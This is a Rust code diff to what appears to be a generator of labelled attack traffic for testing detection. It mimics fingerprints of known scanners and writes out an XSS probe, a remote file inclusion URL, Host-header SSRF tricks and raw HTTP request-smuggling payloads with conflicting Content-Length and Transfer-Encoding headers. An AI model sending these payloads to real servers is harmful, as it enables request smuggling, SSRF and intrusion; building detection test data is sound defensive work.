@@ -8,7 +8,7 @@ use super::super::encode::Encoding;
 use super::super::place::Place;
 use super::super::rng::Rng;
 use super::super::wire::Wire;
-use super::tools::{Shot, callback, path, query};
+use super::tools::{Shot, domain, path, query};
 
 pub(super) const ATTACKS: &[AttackGrammar] = &[
     request("scanner-marks", AttackClass::Scanner, 34, marks),
@@ -18,7 +18,7 @@ pub(super) const ATTACKS: &[AttackGrammar] = &[
 
 /// Names, headers and values by which a scanner finds its own requests again.
 fn marks(rng: &mut Rng) -> Shot {
-    let (word, n, away) = (rng.letters(6), rng.digits(9), callback(rng));
+    let (word, n, away) = (rng.letters(6), rng.digits(9), domain(rng));
     let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.103 Safari/537.36";
     let header = |wire: Wire, rng: &mut Rng| (wire.finish(rng), Place::Header, Encoding::Plain);
     match rng.below(25) {
@@ -86,7 +86,7 @@ fn marks(rng: &mut Rng) -> Shot {
                 .header("X-WIPP-RequestID", rng.hex(16)),
             rng,
         ),
-        8 => query(format!("/?{word}=javascript:qxss({n});&AppScanHeader=1"), rng),
+        8 => query(format!("/?{word}=%22'%3E%3Cqss%20a%3DX{n}Y1_1Z%3E"), rng),
         9 => header(
             Wire::get("/")
                 .header("User-Agent", chrome)
@@ -94,11 +94,10 @@ fn marks(rng: &mut Rng) -> Shot {
             rng,
         ),
         10 => header(
-            Wire::get(format!("/{word}.asp"))
+            Wire::get(format!("/NonExistant{n}/{word}.asp"))
                 .header("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)")
                 .header("Accept-Charset", "iso-8859-1,*,utf-8")
-                .header("Pragma", "no-cache")
-                .header("X-Nessus-Token", rng.uuid()),
+                .header("Pragma", "no-cache"),
             rng,
         ),
         11 => header(
@@ -119,7 +118,7 @@ fn marks(rng: &mut Rng) -> Shot {
         14 => header(Wire::get(format!("/?x={word}")).header("User-Agent", "Mozilla/5.0 SF/2.10b"), rng),
         15 => header(
             Wire::new("OPTIONS", format!("/{word}"))
-                .header("User-Agent", "Mozilla/5.0 (compatible; Burp Collaborator Everywhere)")
+                .header("User-Agent", chrome)
                 .header("From", format!("root@{away}"))
                 .header("X-Wap-Profile", format!("http://{away}/wap.xml")),
             rng,
@@ -136,11 +135,22 @@ fn marks(rng: &mut Rng) -> Shot {
                 .header("User-Agent", "masscan-ng/1.3 (https://github.com/bi-zone/masscan-ng)"),
             rng,
         ),
-        18 => path(format!("/{n}?testing=nuclei-{word}&v=interactsh-{away}"), rng),
+        18 => query(
+            format!(
+                "/index.php?page=http://{}%3F.jpg&{word}",
+                rng.pick(&[
+                    "some-inexistent-website.acu/some_inexistent_file_with_long_name",
+                    "bxss.me/t/fit.txt",
+                    "testphp.vulnweb.com/t/fit.txt"
+                ])
+            ),
+            rng,
+        ),
         19 => header(
-            Wire::get("/sdk")
-                .header("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
-                .header("X-Probe", word.as_str()),
+            Wire::get(rng.pick(&["/sdk", "/evox/about", "/HNAP1"])).header(
+                "User-Agent",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            ),
             rng,
         ),
         20 => header(
@@ -171,8 +181,7 @@ fn marks(rng: &mut Rng) -> Shot {
         ),
         23 => header(
             Wire::get(format!("/.well-known/{word}"))
-                .header("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
-                .header("X-Interactsh", away),
+                .header("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
             rng,
         ),
         _ => header(
@@ -372,9 +381,8 @@ fn between(rng: &mut Rng) -> Shot {
             hidden.len() + 5
         ),
         6 => format!(
-            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nContent-Length: {}\r\n\r\n{hidden}",
-            hidden.len(),
-            n
+            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nExpect: y 100-continue\r\nContent-Length: {}\r\n\r\n{hidden}",
+            hidden.len()
         ),
         7 => format!(
             "POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {0},{0}\r\nTransfer-Encoding: \tchunked\x0c\r\n\r\n0\r\n\r\n{hidden}",
@@ -388,11 +396,11 @@ fn between(rng: &mut Rng) -> Shot {
         10 => format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\nHost: {word}\r\n\r\n", rng.pick(&[22, 3306, 6379, 8080])),
         11 => format!("GET /{word} HTTP/1.1\r\nHost: {host}@127.0.0.1:{n}\r\n\r\n"),
         12 => format!("GET /{word}\x01 HTTP/1.1\r\nHost: {host}\r\nX: {n}\r\n\r\n"),
-        13 => {
-            format!("GET /{word} HTTP/1.1\r\nHost: {host}\r\nX{word}: 1\nTransfer-Encoding: chunked\r\n\r\n{n:x}\r\n")
-        }
+        13 => format!(
+            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5\n{word}\n0\n\n{hidden}"
+        ),
         14 => format!(
-            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
+            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{hidden}",
             hidden.len() + 5
         ),
         15 => format!(
@@ -400,11 +408,11 @@ fn between(rng: &mut Rng) -> Shot {
             rng.hex(3)
         ),
         16 => format!(
-            "POST /{word} HTTP/1.1\r\nHost: {host}\r\n{} : chunked\r\nContent-Length: {}\r\n\r\n0\r\n\r\n{hidden}",
-            rng.pick(&["Transfer-Encoding", "transfer-encoding", "TRANSFER-ENCODING"]),
+            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: {}\r\nContent-Length: {}\r\n\r\n0\r\n\r\n{hidden}",
+            rng.pick(&["\"chunked\"", ",chunked", "chunked;q=1"]),
             hidden.len() + 5
         ),
-        _ => format!("GET /{word} HTTP/1.1\r\nHost: {host}\r\nHost: 127.0.0.1:{n}\r\n\r\n"),
+        _ => format!("GET /{word} HTTP/1.1\r\nHost: {host}/../../?{n}\r\nX-{word}: 1\r\n\r\n"),
     };
     (raw.into_bytes(), Place::Header, Encoding::Plain)
 }
